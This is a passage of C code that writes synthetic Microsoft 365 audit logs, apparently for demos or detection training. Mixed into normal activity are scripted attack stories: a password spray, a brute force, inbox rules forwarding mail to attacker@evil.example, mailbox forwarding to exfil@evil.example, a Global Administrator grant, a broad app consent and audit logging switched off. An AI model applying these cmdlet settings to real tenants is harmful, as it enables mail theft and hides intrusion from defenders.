	p = put_head(p, g, e, "Send", 2, id);
	L("\"ResultStatus\":\"Succeeded\",\"UserKey\":\"");
	S(e->puid, 16);
	L("\",\"UserType\":0,\"Version\":1,\"Workload\":\"Exchange\",\"ClientIP\":\"");
	p = put_clientip(p, e, rbelow(&e->r, 4) != 0);
	L("\",");
	p = put_mailbox(p, e, EXO_APP, clients[e->profile].info, false);
	L(",\"SessionId\":\"");
	RGUID(&e->r);
	L("\",\"Item\":{\"Id\":\"RgAAAAA");
	p = put_b64(p, &e->r, 60);
	L("AAAJ\",\"InternetMessageId\":\"");
	p = put_msgid(p, e);
	L("\",\"ParentFolder\":{\"Id\":\"LgAAAAA");
	p = put_b64(p, &e->r, 40);
	L("AAAB\",\"Path\":\"\\\\Sent Items\"},\"SizeInBytes\":");
	U(4000 + rbelow(&e->r, 250000));
	L(",\"Subject\":\"");
	Z(subjects[rbelow(&e->r, SS_ARRAY_LEN(subjects))]);
	L("\"}}");
	return p;
}

static char *emit_mailbox_login(char *p, const struct gen *g, struct ev *e)
{
	char id[36];

	p = put_head(p, g, e, "MailboxLogin", 2, id);
	L("\"ResultStatus\":\"Succeeded\",\"UserKey\":\"");
	S(e->puid, 16);
	L("\",\"UserType\":0,\"Version\":1,\"Workload\":\"Exchange\",\"ClientIP\":\"");
	p = put_clientip(p, e, true);
	L("\",");
	p = put_mailbox(p, e, "", "Client=Microsoft.Exchange.Mapi; Client=MSExchangeRPC", false);
	*p++ = '}';
	return p;
}

/* ---- Exchange admin cmdlets (RecordType 1) ---- */

struct param {
	const char *name;
	const char *value;
};

/* object: ObjectId; admin: UserType 2 (an admin's cmdlet) or 0 (the owner through Outlook on the web). */
static char *emit_cmdlet(char *p, const struct gen *g, struct ev *e, const char *op, const char *object,
			 bool admin, const struct param *params, unsigned nparams)
{
	char id[36];
	unsigned i;

	p = put_head(p, g, e, op, 1, id);
	L("\"ResultStatus\":\"True\",\"UserKey\":\"");
	S(e->puid, 16);
	L("\",\"UserType\":");
	Z(admin ? "2" : "0");
	L(",\"Version\":1,\"Workload\":\"Exchange\",\"ClientIP\":\"");
	p = put_clientip(p, e, true);
	L("\",\"ObjectId\":\"");
	Z(object);
	L("\",\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",\"AppId\":\"");
	Z(admin ? EXO_PS_APP : EXO_APP);
	L("\",\"ClientAppId\":\"\",\"ExternalAccess\":false,\"OrganizationName\":\"" INITIAL_DOMAIN
	  "\",\"OriginatingServer\":\"");
	p = put_server(p, e);
	L(" (15.20.8158.011)\",\"Parameters\":[");
	for (i = 0; i < nparams; i++) {
		if (i)
			*p++ = ',';
		L("{\"Name\":\"");
		Z(params[i].name);
		L("\",\"Value\":\"");
		Z(params[i].value);
		L("\"}");
	}
	L("],\"SessionId\":\"");
	RGUID(&e->r);
	L("\"}");
	return p;
}

/* An ObjectId of an inbox rule: "<upn>\<rule>". */
static void rule_object(char *out, size_t cap, const struct ev *e, const char *rule)
{
	snprintf(out, cap, "%.*s\\\\%s", (int)e->upn_len, e->upn, rule);
}

/* ---- Entra ID directory events (RecordType 8) ---- */

static char *put_actor_ids(char *p, const struct ev *e, const char *upn, size_t upn_len)
{
	L("{\"ID\":\"");
	S(upn, upn_len);
	L("\",\"Type\":5},{\"ID\":\"");
	S(e->puid, 16);
	L("\",\"Type\":3},{\"ID\":\"User_");
	S(e->oid, 36);
	L("\",\"Type\":2},{\"ID\":\"");
	S(e->oid, 36);
	L("\",\"Type\":2},{\"ID\":\"User\",\"Type\":2}");
	return p;
}

/*
 * A directory event by e's user on target t (a user, or NULL with sp set to a
 * service principal's display name). modified is the ModifiedProperties array
 * body, already JSON.
 */
static char *emit_directory(char *p, const struct gen *g, struct ev *e, const char *op, const char *category,
			    const struct ev *t, const char *sp, const char *modified)
{
	char id[36];

	p = put_head(p, g, e, op, 8, id);
	L("\"ResultStatus\":\"Success\",\"UserKey\":\"");
	S(e->puid, 16);
	L("@" INITIAL_DOMAIN "\",\"UserType\":0,\"Version\":1,\"Workload\":\"AzureActiveDirectory\","
	  "\"ClientIP\":\"");
	S(e->addr, e->addr_len);
	L("\",\"ObjectId\":\"");
	if (t)
		S(t->upn, t->upn_len);
	else
		p = put_kguid(p, g->root ^ 0x7A11CE5Eull);
	L("\",\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",\"AzureActiveDirectoryEventType\":1,\"ExtendedProperties\":[{\"Name\":\"additionalDetails\","
	  "\"Value\":\"");
	Z(t ? "{\\\"UserType\\\":\\\"Member\\\"}" : "{}");
	L("\"},{\"Name\":\"extendedAuditEventCategory\",\"Value\":\"");
	Z(category);
	L("\"}],\"ModifiedProperties\":[");
	Z(modified);
	L("],\"Actor\":[");
	p = put_actor_ids(p, e, e->upn, e->upn_len);
	L("],\"ActorContextId\":\"");
	S(g->t.tenant_id, 36);
	L("\",\"ActorIpAddress\":\"");
	S(e->addr, e->addr_len);
	L("\",\"InterSystemsId\":\"");
	RGUID(&e->r);
	L("\",\"IntraSystemId\":\"");
	RGUID(&e->r);
	L("\",\"SupportTicketId\":\"\",\"Target\":[");
	if (t) {
		L("{\"ID\":\"User_");
		S(t->oid, 36);
		L("\",\"Type\":2},{\"ID\":\"");
		S(t->oid, 36);
		L("\",\"Type\":2},{\"ID\":\"User\",\"Type\":2},{\"ID\":\"");
		S(t->upn, t->upn_len);
		L("\",\"Type\":5},{\"ID\":\"");
		S(t->puid, 16);
		L("\",\"Type\":3}");
	} else {
		L("{\"ID\":\"ServicePrincipal_");
		p = put_kguid(p, g->root ^ 0x7A11CE5Eull);
		L("\",\"Type\":2},{\"ID\":\"");
		p = put_kguid(p, g->root ^ 0x7A11CE5Eull);
		L("\",\"Type\":2},{\"ID\":\"ServicePrincipal\",\"Type\":2},{\"ID\":\"");
		Z(sp);
		L("\",\"Type\":1}");
	}
	L("],\"TargetContextId\":\"");
	S(g->t.tenant_id, 36);
	L("\"}");
	return p;
}

/* ---- Teams (RecordType 25) ---- */

static char *put_teams_head(char *p, const struct gen *g, struct ev *e, const char *op)
{
	char id[36];

	p = put_head(p, g, e, op, 25, id);
	L("\"UserKey\":\"");
	S(e->oid, 36);
	L("\",\"UserType\":0,\"Version\":1,\"Workload\":\"MicrosoftTeams\",\"ClientIP\":\"");
	p = put_clientip(p, e, false);
	L("\",\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",");
	return p;
}

static char *emit_teams_msg(char *p, const struct gen *g, struct ev *e)
{
	unsigned kind = rbelow(&e->r, 3), team = rbelow(&e->r, SS_ARRAY_LEN(teams));

	p = put_teams_head(p, g, e, "MessageSent");
	L("\"ChatThreadId\":\"19:");
	if (kind == 2) {
		p = put_hex(p, mix64(g->root ^ team), 16, hexl);
		p = put_hex(p, mix64(g->root ^ team ^ 7), 16, hexl);
		L("@thread.tacv2\",\"CommunicationType\":\"Team\",\"TeamName\":\"");
		Z(teams[team]);
		L("\",\"ChannelName\":\"");
		Z(channels[rbelow(&e->r, SS_ARRAY_LEN(channels))]);
		*p++ = '"';
	} else {
		p = put_hex(p, rnext(&e->r), 16, hexl);
		p = put_hex(p, rnext(&e->r), 16, hexl);
		L("@thread.v2\",\"CommunicationType\":\"");
		Z(kind ? "GroupChat" : "OneOnOne");
		*p++ = '"';
	}
	L(",\"MessageId\":\"");
	U((uint64_t)(g->day_ms + (ss_time_ms)e->sec * 1000 + rbelow(&e->r, 1000)));
	L("\",\"ParticipantInfo\":{\"HasForeignTenantUsers\":false,\"HasGuestUsers\":false,"
	  "\"HasOtherGuestUsers\":false,\"HasUnauthenticatedUsers\":false,\"ParticipatingDomains\":[],"
	  "\"ParticipatingSIPDomains\":[],\"ParticipatingTenantIds\":[\"");
	S(g->t.tenant_id, 36);
	L("\"]},\"ResourceTenantId\":\"");
	S(g->t.tenant_id, 36);
	L("\"}");
	return p;
}

static char *emit_teams_member(char *p, const struct gen *g, struct ev *e, const struct ev *m)
{
	unsigned team = rbelow(&e->r, SS_ARRAY_LEN(teams));

	p = put_teams_head(p, g, e, "MemberAdded");
	L("\"AADGroupId\":\"");
	p = put_kguid(p, g->root ^ team ^ 0x6A09E667ull);
	L("\",\"CommunicationType\":\"Team\",\"ItemName\":\"");
	Z(teams[team]);
	L("\",\"Members\":[{\"DisplayName\":\"");
	Z(m->name);
	L("\",\"Role\":1,\"UPN\":\"");
	S(m->upn, m->upn_len);
	L("\"}],\"TeamGuid\":\"19:");
	p = put_hex(p, mix64(g->root ^ team), 16, hexl);
	p = put_hex(p, mix64(g->root ^ team ^ 7), 16, hexl);
	L("@thread.tacv2\",\"TeamName\":\"");
	Z(teams[team]);
	L("\"}");
	return p;
}

/* ---- background activity ---- */

static const unsigned short *mix_of(unsigned class)
{
	return class == U_ADMIN ? mix_admin : class == U_GUEST ? mix_guest : mix_member;
}

static enum kind draw_kind(struct rng *r, unsigned class)
{
	const unsigned short *m = mix_of(class);
	unsigned x = rbelow(r, 10000), k;

	for (k = 0; k < K_COUNT; k++) {
		if (x < m[k])
			return (enum kind)k;
		x -= m[k];
	}
	return K_SIGNIN;
}

/* Another active member for records about a second user (a Teams member, an admin's target). */
static unsigned other_user(const struct gen *g, struct rng *r)
{
	unsigned i, k;

	for (k = 0; k < 16; k++) {
		i = rbelow(r, g->n);
		if (g->au[i].class == U_MEMBER)
			return i;
	}
	return 2 % g->n;
}

static const char *const user_updates[] = {
	"{\"Name\":\"Department\",\"NewValue\":\"[\\r\\n  \\\"Finance\\\"\\r\\n]\",\"OldValue\":\"[\\r\\n  "
	"\\\"Sales\\\"\\r\\n]\"},{\"Name\":\"Included Updated Properties\",\"NewValue\":\"Department\","
	"\"OldValue\":\"\"},{\"Name\":\"TargetId.UserType\",\"NewValue\":\"Member\",\"OldValue\":\"\"}",
	"{\"Name\":\"JobTitle\",\"NewValue\":\"[\\r\\n  \\\"Senior "
	"Analyst\\\"\\r\\n]\",\"OldValue\":\"[\\r\\n  "
	"\\\"Analyst\\\"\\r\\n]\"},{\"Name\":\"Included Updated Properties\",\"NewValue\":\"JobTitle\","
	"\"OldValue\":\"\"},{\"Name\":\"TargetId.UserType\",\"NewValue\":\"Member\",\"OldValue\":\"\"}",
	"{\"Name\":\"TelephoneNumber\",\"NewValue\":\"[\\r\\n  \\\"+1 555 "
	"0147\\\"\\r\\n]\",\"OldValue\":\"[]\"},"
	"{\"Name\":\"Included Updated Properties\",\"NewValue\":\"TelephoneNumber\",\"OldValue\":\"\"},"
	"{\"Name\":\"TargetId.UserType\",\"NewValue\":\"Member\",\"OldValue\":\"\"}",
};

#define ROLE_PROPS(tmpl, name, wk)                                                                           \
	"{\"Name\":\"Role.ObjectID\",\"NewValue\":\"" tmpl                                                   \
	"\",\"OldValue\":\"\"},{\"Name\":\"Role.DisplayName\","                                              \
	"\"NewValue\":\"" name "\",\"OldValue\":\"\"},{\"Name\":\"Role.TemplateId\",\"NewValue\":\"" tmpl    \
	"\",\"OldValue\":\"\"},{\"Name\":\"Role.WellKnownObjectName\",\"NewValue\":\"" wk                    \
	"\",\"OldValue\":\"\"}"

static const struct param rule_news[] = {
	{"AlwaysDeleteOutlookRulesBlob", "False"},
	{"Force", "False"},
	{"Name", "Newsletters"},
	{"From", "news@vendor.example"},
	{"MoveToFolder", "Newsletters"},
	{"StopProcessingRules", "False"},
};
static const struct param rule_invoices[] = {
	{"AlwaysDeleteOutlookRulesBlob", "False"},
	{"Force", "False"},
	{"Name", "Invoices"},
	{"From", "billing@supplier.example"},
	{"MoveToFolder", "Invoices"},
	{"StopProcessingRules", "False"},
};

/* The day number since the epoch of the day being written. */
static int64_t abs_day(const struct gen *g)
{
	return g->first_day + g->day;
}

/* Is the user at the office today? (weekdays, most users) */
static bool in_office(const struct gen *g, unsigned user)
{
	int64_t d = abs_day(g);
	unsigned wd = (unsigned)(((d + 4) % 7 + 7) % 7); /* 0 Sunday */
	return wd != 0 && wd != 6 && hkey(g->root, (uint64_t)d, user ^ 0x0FF1CEull) % 100 < 70;
}

/* Writes record no of user today; first: the user's first record of a busy day, a sign-in. */
static char *emit_background(char *p, struct gen *g, unsigned sec, unsigned user, unsigned no, bool first)
{
	const struct au_user *a = &g->au[user];
	const struct ss_demo_user *du = &g->t.users[user];
	struct ev e, t;
	enum kind k;
	bool mobile;
	unsigned x, app, o;
	char obj[320];

	e.r.s = hkey(g->root, (uint64_t)abs_day(g) << 32 | user, no);
	e.sec = sec;
	ev_user(g, &e, user);
	k = first ? K_SIGNIN : draw_kind(&e.r, a->class);
	mobile = rbelow(&e.r, 100) < 22;
	e.profile = mobile ? a->mobile : a->desk;
	if (!mobile && in_office(g, user) && rbelow(&e.r, 100) < 90)
		ev_addr4(&e, countries[a->country].office + (unsigned)(a->key >> 40) % 8);
	else if (a->v6home)
		ev_addr6(&e, a);
	else
		ev_addr4(&e, a->home4);

	switch (k) {
	case K_SIGNIN:
		x = rbelow(&e.r, 1000);
		o = x < 30 ? O_BADPWD : x < 50 ? O_KMSI : O_OK;
		if (mobile)
			app = rbelow(&e.r, 2) ? A_OUTLOOK_MOBILE : A_TEAMS;
		else
			app = rbelow(&e.r, 4); /* OfficeHome, Exchange, Teams, Office */
		return emit_signin(p, g, &e, o, app,
				   o == O_KMSI	     ? "Kmsi:kmsi"
				   : mobile	     ? "OAuth2:Token"
				   : rbelow(&e.r, 3) ? "OAuth2:Authorize"
						     : "Login:login");
	case K_FILE_ACCESSED:
	case K_FILE_MODIFIED:
	case K_FILE_DOWNLOADED:
	case K_FILE_UPLOADED:
	case K_FILE_DELETED: {
		static const char *const ops[] = {"FileAccessed", "FileModified", "FileDownloaded",
						  "FileUploaded", "FileDeleted"};
		int site = du->guest || rbelow(&e.r, 100) < 55 ? (int)rbelow(&e.r, SS_ARRAY_LEN(sites)) : -1;
		return emit_file(p, g, &e, ops[k - K_FILE_ACCESSED], site);
	}
	case K_MAIL_ACCESSED:
		x = rbelow(&e.r, 100) < 30;
		return emit_mail_accessed(p, g, &e, x, x ? 20 + rbelow(&e.r, 200) : 0);
	case K_SEND: return emit_send(p, g, &e);
	case K_MAILBOX_LOGIN: return emit_mailbox_login(p, g, &e);
	case K_TEAMS_MSG: return emit_teams_msg(p, g, &e);
	case K_TEAMS_MEMBER: ev_user(g, &t, other_user(g, &e.r)); return emit_teams_member(p, g, &e, &t);
	case K_INBOX_RULE:
		x = rbelow(&e.r, 2);
		rule_object(obj, sizeof(obj), &e, x ? "Newsletters" : "Invoices");
		return emit_cmdlet(p, g, &e, "New-InboxRule", obj, false, x ? rule_news : rule_invoices,
				   SS_ARRAY_LEN(rule_news));
	case K_EX_ADMIN: {
		unsigned ti = other_user(g, &e.r), ui = other_user(g, &e.r);
		const char *tupn = g->t.users[ti].upn;
		struct param pa[4] = {{"Identity", tupn}};
		ev_user(g, &t, ti);
		memcpy(obj, t.oid, 36);
		obj[36] = '\0';
		switch (rbelow(&e.r, 4)) {
		case 0:
			pa[1] = (struct param){"RetainDeletedItemsFor", "30.00:00:00"};
			return emit_cmdlet(p, g, &e, "Set-Mailbox", obj, true, pa, 2);
		case 1:
			pa[1] = (struct param){"ProhibitSendQuota", "49.5 GB"};
			return emit_cmdlet(p, g, &e, "Set-Mailbox", obj, true, pa, 2);
		case 2:
			pa[1] = (struct param){"AccessRights", "FullAccess"};
			pa[2] = (struct param){"User", g->t.users[ui].upn};
			pa[3] = (struct param){"InheritanceType", "All"};
			return emit_cmdlet(p, g, &e, "Add-MailboxPermission", obj, true, pa, 4);
		default:
			pa[1] = (struct param){"ActiveSyncEnabled", "False"};
			return emit_cmdlet(p, g, &e, "Set-CASMailbox", obj, true, pa, 2);
		}
	}
	case K_AAD_UPDATE:
		ev_user(g, &t, other_user(g, &e.r));
		return emit_directory(p, g, &e, "Update user.", "User", &t, NULL,
				      user_updates[rbelow(&e.r, SS_ARRAY_LEN(user_updates))]);
	case K_AAD_ROLE:
		ev_user(g, &t, other_user(g, &e.r));
		return emit_directory(p, g, &e, "Add member to role.", "Role", &t, NULL,
				      ROLE_PROPS("729827e3-9c14-49f7-bb1b-9608f156bbb8",
						 "Helpdesk Administrator", "HelpdeskAdmins"));
	case K_COUNT: break;
	}
	return emit_signin(p, g, &e, O_OK, A_OFFICEHOME, "Login:login");
}

/* ---- the stories ---- */

#define HMS(h, m, s) ((h)*3600u + (m)*60u + (s))
#define SPRAY_AT     HMS(3, 12, 5)
#define BRUTE_AT     HMS(14, 2, 10)
#define HOME_AT	     HMS(8, 40, 12)
#define FAR_AT	     HMS(8, 57, 31)
#define ROLE_AT	     HMS(9, 3, 20)
#define CONSENT_AT   HMS(9, 7, 45)
#define AUDIT_AT     HMS(9, 10, 5)
#define UALOFF_AT    HMS(9, 12, 30)
#define DLSIGNIN_AT  HMS(10, 14, 30)
#define DL_AT	     HMS(10, 15, 0)

static const char *const guesses[] = {
	"admin@" DOMAIN,      "administrator@" DOMAIN, "test@" DOMAIN,	   "scanner@" DOMAIN,
	"it.support@" DOMAIN, "helpdesk@" DOMAIN,      "backup@" DOMAIN,   "office@" DOMAIN,
	"accounts@" DOMAIN,   "payroll@" DOMAIN,       "ceo@" DOMAIN,	   "printer@" DOMAIN,
	"noreply@" DOMAIN,    "webmaster@" DOMAIN,     "training@" DOMAIN, "guest@" DOMAIN,
};

static unsigned spray_real(const struct gen *g)
{
	return g->n < SPRAY_TARGETS ? g->n : SPRAY_TARGETS;
}

static unsigned spray_target(const struct gen *g, unsigned i)
{
	return (7 + i * (g->n / spray_real(g))) % g->n;
}

/* The day index of "day -off", clamped to the window. */
static unsigned story_day(const struct gen *g, unsigned off)
{
	return g->o->days - (off < g->o->days ? off : g->o->days);
}

static void add_step(struct gen *g, unsigned off, unsigned sec, unsigned story, unsigned n)
{
	g->steps[g->nsteps++] = (struct step){story_day(g, off), sec, story, n};
}

static int step_cmp(const void *a, const void *b)
{
	const struct step *x = a, *y = b;
	if (x->day != y->day)
		return x->day < y->day ? -1 : 1;
	if (x->sec != y->sec)
		return x->sec < y->sec ? -1 : 1;
	if (x->story != y->story)
		return x->story < y->story ? -1 : 1;
	return x->n < y->n ? -1 : x->n > y->n;
}

static void plan_stories(struct gen *g)
{
	unsigned i;

	g->steps = ss_xcalloc(SPRAY_TARGETS + SPRAY_GUESSES + 31 + 6 + DOWNLOADS + 1, sizeof(*g->steps));
	for (i = 0; i < SPRAY_TARGETS + SPRAY_GUESSES; i++)
		add_step(g, 6, SPRAY_AT + 4 * i, S_SPRAY, i);
	for (i = 0; i < 25; i++)
		add_step(g, 5, BRUTE_AT + 11 * i, S_BRUTE, i);
	add_step(g, 5, BRUTE_AT + 281, S_BRUTE, 25);
	add_step(g, 5, BRUTE_AT + 420, S_BRUTE, 26);
	add_step(g, 5, BRUTE_AT + 540, S_BRUTE, 27);
	add_step(g, 5, BRUTE_AT + 600, S_BRUTE, 28);
	add_step(g, 5, BRUTE_AT + 630, S_BRUTE, 29);
	add_step(g, 5, BRUTE_AT + 720, S_BRUTE, 30);
	add_step(g, 4, HOME_AT, S_ADMIN, 0);
	add_step(g, 4, FAR_AT, S_ADMIN, 1);
	add_step(g, 4, ROLE_AT, S_ADMIN, 2);
	add_step(g, 4, CONSENT_AT, S_ADMIN, 3);
	add_step(g, 4, AUDIT_AT, S_ADMIN, 4);
	add_step(g, 4, UALOFF_AT, S_ADMIN, 5);
	add_step(g, 3, DLSIGNIN_AT, S_DOWNLOAD, 0);
	for (i = 0; i < DOWNLOADS; i++)
		add_step(g, 3, DL_AT + i * 19 / 10, S_DOWNLOAD, i + 1);
	qsort(g->steps, g->nsteps, sizeof(*g->steps), step_cmp);
}

static char *emit_story(char *p, struct gen *g, const struct step *s)
{
	const struct au_user *a;
	struct ev e, t;
	char obj[320];

	e.r.s = hkey(g->root ^ 0x5702E5ull, s->story, s->n);
	e.sec = s->sec;
	switch (s->story) {
	case S_SPRAY:
		if (s->n < spray_real(g)) {
			ev_user(g, &e, spray_target(g, s->n));
		} else {
			e.known = false;
			e.upn = guesses[s->n - spray_real(g)];
			e.upn_len = strlen(e.upn);
			e.name = "";
			e.key = hkey(g->root, 0x6E55, s->n);
			e.country = 0;
			e.user = 0;
		}
		e.profile = P_SPRAY;
		ev_addr_text(&e, SPRAY_IP);
		return emit_signin(p, g, &e, e.known ? O_BADPWD : O_NOUSER, A_AAD_PS, "OAuth2:Token");
	case S_BRUTE:
		ev_user(g, &e, g->victim);
		e.profile = P_BRUTE;
		ev_addr_text(&e, BRUTE_IP);
		switch (s->n) {
		case 25: return emit_signin(p, g, &e, O_OK, A_OFFICEHOME, "Login:login");
		case 26: return emit_mail_accessed(p, g, &e, true, 312);
		case 27: {
			const struct param pa[] = {{"AlwaysDeleteOutlookRulesBlob", "False"},
						   {"Force", "False"},
						   {"Name", "."},
						   {"ForwardTo", "attacker@evil.example"},
						   {"StopProcessingRules", "True"}};
			rule_object(obj, sizeof(obj), &e, ".");
			return emit_cmdlet(p, g, &e, "New-InboxRule", obj, false, pa, SS_ARRAY_LEN(pa));
		}
		case 28: {
			const struct param pa[] = {
				{"AlwaysDeleteOutlookRulesBlob", "False"},
				{"Force", "False"},
				{"Name", ".."},
				{"SubjectOrBodyContainsWords", "invoice;payment;wire;bank"},
				{"MoveToFolder", "RSS Feeds"},
				{"MarkAsRead", "True"},
				{"StopProcessingRules", "True"}};
			rule_object(obj, sizeof(obj), &e, "..");
			return emit_cmdlet(p, g, &e, "New-InboxRule", obj, false, pa, SS_ARRAY_LEN(pa));
		}
		case 29: {
			const struct param pa[] = {
				{"AlwaysDeleteOutlookRulesBlob", "False"},
				{"Force", "False"},
				{"Name", "..."},
				{"SubjectOrBodyContainsWords", "hacked;phishing;suspicious;unusual sign-in"},
				{"DeleteMessage", "True"},
				{"MarkAsRead", "True"},
				{"StopProcessingRules", "True"}};
			rule_object(obj, sizeof(obj), &e, "...");
			return emit_cmdlet(p, g, &e, "New-InboxRule", obj, false, pa, SS_ARRAY_LEN(pa));
		}
		case 30: {
			const struct param pa[] = {{"Identity", g->t.users[g->victim].upn},
						   {"ForwardingSmtpAddress", "smtp:exfil@evil.example"},
						   {"DeliverToMailboxAndForward", "False"}};
			memcpy(obj, e.oid, 36);
			obj[36] = '\0';
			return emit_cmdlet(p, g, &e, "Set-Mailbox", obj, false, pa, SS_ARRAY_LEN(pa));
		}
		default: return emit_signin(p, g, &e, O_BADPWD, A_OFFICEHOME, "Login:login");
		}
	case S_ADMIN:
		a = &g->au[g->admin];
		ev_user(g, &e, g->admin);
		if (s->n == 0) {
			e.profile = a->desk;
			ev_addr4(&e, a->home4);
			return emit_signin(p, g, &e, O_OK, A_OFFICEHOME, "Login:login");
		}
		e.profile = P_FIREFOX;
		ev_addr_text(&e, FAR_IP);
		ev_user(g, &t, g->victim);
		switch (s->n) {
		case 1: return emit_signin(p, g, &e, O_OK, A_OFFICEHOME, "Login:login");
		case 2:
			return emit_directory(
				p, g, &e, "Add member to role.", "Role", &t, NULL,
				ROLE_PROPS(GA_TEMPLATE, "Global Administrator", "TenantAdmins"));
		case 3:
			return emit_directory(
				p, g, &e, "Consent to application.", "ApplicationManagement", NULL,
				"MailSync Pro",
				"{\"Name\":\"ConsentContext.IsAdminConsent\",\"NewValue\":\"True\","
				"\"OldValue\":\"\"},"
				"{\"Name\":\"ConsentContext.IsAppOnly\",\"NewValue\":\"False\",\"OldValue\":"
				"\"\"},"
				"{\"Name\":\"ConsentContext.OnBehalfOfAll\",\"NewValue\":\"True\","
				"\"OldValue\":\"\"},"
				"{\"Name\":\"ConsentContext.Tags\",\"NewValue\":"
				"\"WindowsAzureActiveDirectoryIntegratedApp\","
				"\"OldValue\":\"\"},{\"Name\":\"ConsentAction.Permissions\",\"NewValue\":\"[]"
				" => [[Id: "
				"kL3cYbH2QkmYw1Ha5Fq0Zw, ClientId: 6b0f8e3c-2d1a-4c5e-9f7b-8a4d3e2c1b0a, "
				"PrincipalId: , "
				"ResourceId: 7f9d2c1e-5b4a-4e3d-8c2b-1a0f9e8d7c6b, ConsentType: "
				"AllPrincipals, Scope:  "
				"Mail.Read Mail.Send Files.ReadWrite.All offline_access User.Read, "
				"CreatedDateTime: , "
				"LastModifiedDateTime ]]; "
				"\",\"OldValue\":\"\"},{\"Name\":\"ConsentAction.Reason\","
				"\"NewValue\":\"Risky application detected\",\"OldValue\":\"\"},{\"Name\":"
				"\"TargetId.ServicePrincipalNames\",\"NewValue\":\"6b0f8e3c-2d1a-4c5e-9f7b-"
				"8a4d3e2c1b0a\","
				"\"OldValue\":\"\"}");
		case 4: {
			const struct param pa[] = {{"Identity", g->t.users[g->victim].upn},
						   {"AuditEnabled", "False"}};
			memcpy(obj, t.oid, 36);
			obj[36] = '\0';
			return emit_cmdlet(p, g, &e, "Set-Mailbox", obj, true, pa, SS_ARRAY_LEN(pa));
		}
		default: {
			const struct param pa[] = {{"UnifiedAuditLogIngestionEnabled", "False"}};
			return emit_cmdlet(p, g, &e, "Set-AdminAuditLogConfig", "Admin Audit Log Settings",
					   true, pa, SS_ARRAY_LEN(pa));
		}
		}
	default: {
		static const int dl_sites[] = {-1, 0, 2, 4, 0, 2, 4};
		a = &g->au[g->mover];
		ev_user(g, &e, g->mover);
		e.profile = a->desk;
		ev_addr4(&e, a->home4);
		if (s->n == 0)
			return emit_signin(p, g, &e, O_OK, A_OFFICEHOME, "Login:login");
		return emit_file(p, g, &e, "FileDownloaded", dl_sites[s->n % SS_ARRAY_LEN(dl_sites)]);
	}
	}
}

/* ---- setting up ---- */

static void gen_release(struct gen *g)
{
	ss_demo_tenant_release(&g->t);
	free(g->au);
	free(g->steps);
	free(g->keys);
	free(g->sorted);
	free(g->counts);
	free(g->buf);
	ss_buf_release(&g->path);
	ss_buf_release(&g->tmp);
	ss_buf_release(&g->pending);
	ss_buf_release(&g->carry);
}

/* The first enabled, active, licensed non-admin member at or after index from; not a nor b. */
static unsigned pick_user(const struct gen *g, unsigned from, unsigned a, unsigned b)
{
	unsigned j, i;

	for (j = 0; j < g->n; j++) {
		i = (from + j) % g->n;
		if (g->au[i].class == U_MEMBER && i != a && i != b)
			return i;
	}
	for (j = 0; j < g->n; j++) { /* a tiny tenant: only admins are there */
		i = (from + j) % g->n;
		if (g->au[i].class == U_ADMIN && i != a && i != b)
			return i;
	}
	return from % g->n;
}

static int gen_init(struct gen *g, const struct ss_demo_audit_opts *o, struct ss_error *err)
{
	struct ss_demo_opts d = {.seed = o->seed, .users = o->users, .now = o->now};
	unsigned i, k, x;

	memset(g, 0, sizeof(*g));
	g->fd = -1;
	g->o = o;
	g->err = err;
	ss_buf_init(&g->path, 8192);
	ss_buf_init(&g->tmp, 8192);
	ss_buf_init(&g->pending, (size_t)1 << 30);
	ss_buf_init(&g->carry, (size_t)1 << 30);
	if (o->users < 10 || o->users > 10000000)
		return ss_error_set(err, SS_EINVAL, "the demo audit log needs 10 to 10000000 users");
	if (o->days < 1 || o->days > 400)
		return ss_error_set(err, SS_EINVAL, "the demo audit log covers 1 to 400 days");
	if (o->events_per_user_day < 1 || o->events_per_user_day > 10000)
		return ss_error_set(err, SS_EINVAL, "events per user and day must be 1 to 10000");
	ss_demo_tenant_init(&g->t, &d);
	g->n = g->t.n;
	g->root = hkey(o->seed, 0xA0D17, 0x5EC5C0DE);
	for (i = 0; i < 3; i++)
		g->sid[i] = 1000000000u + (uint32_t)(hkey(g->root, 0x51D, i) % 3000000000u);
	g->first_day = (o->now >= 0 ? o->now / SS_DAY_MS : (o->now - SS_DAY_MS + 1) / SS_DAY_MS) - o->days;
	g->au = ss_xcalloc(g->n, sizeof(*g->au));
	for (i = 0; i < g->n; i++) {
		const struct ss_demo_user *u = &g->t.users[i];
		struct au_user *a = &g->au[i];
		uint64_t h;
		a->key = hkey(g->root, 0xA11CE, i);
		h = mix64(a->key ^ 0x243F6A8885A308D3ull);
		x = (unsigned)(h % 100);
		for (k = 0; k + 1 < SS_ARRAY_LEN(countries) && x >= countries[k].weight; k++)
			x -= countries[k].weight;
		a->country = (uint8_t)(i < 2 ? 0 : k); /* the break-glass accounts sit at headquarters */
		h = mix64(h);
		a->home4 = countries[a->country].home +
			   (uint32_t)(h >> 8 & (((uint64_t)1 << countries[a->country].home_bits) - 1));
		a->home4 = (a->home4 & ~255u) | (1 + (uint32_t)(h % 254));
		h = mix64(h);
		a->v6home = h % 100 < 30;
		x = (unsigned)(h >> 16) % 100;
		a->desk = (uint8_t)(x < 45 ? P_CHROME : x < 80 ? P_EDGE : x < 92 ? P_SAFARI : P_FIREFOX);
		x = (unsigned)(h >> 32) % 100;
		a->mobile = (uint8_t)(x < 45 ? P_IPHONE : x < 80 ? P_ANDROID : P_OUTLOOK_IOS);
		x = (unsigned)(h >> 48) % 41;
		if (!u->enabled || u->inactive)
			a->class = U_NONE;
		else if (u->guest)
			a->class = U_GUEST;
		else
			a->class = u->admin ? U_ADMIN : U_MEMBER;
		a->weight = (uint16_t)(a->class == U_NONE    ? 0
				       : a->class == U_GUEST ? 15 + x / 2
				       : a->class == U_ADMIN ? 100 + x
							     : 80 + x);
	}
	g->admin = 4; /* the fifth Global Administrator, without MFA in the snapshot */
	g->victim = pick_user(g, 37, g->admin, g->admin);
	g->mover = pick_user(g, 61, g->admin, g->victim);
	if (o->stories)
		plan_stories(g);
	return 0;
}

static void fill_stories(const struct gen *g, struct ss_demo_audit_result *res)
{
	static const struct {
		unsigned number, story, first, last; /* steps first..last of the story */
		const char *title;
	} map[] = {
		{1, S_SPRAY, 0, SPRAY_TARGETS + SPRAY_GUESSES - 1, "password spray"},
		{2, S_BRUTE, 0, 25, "brute force, then a success"},
		{3, S_BRUTE, 26, 30, "inbox rules and forwarding"},
		{4, S_ADMIN, 4, 5, "auditing turned off"},
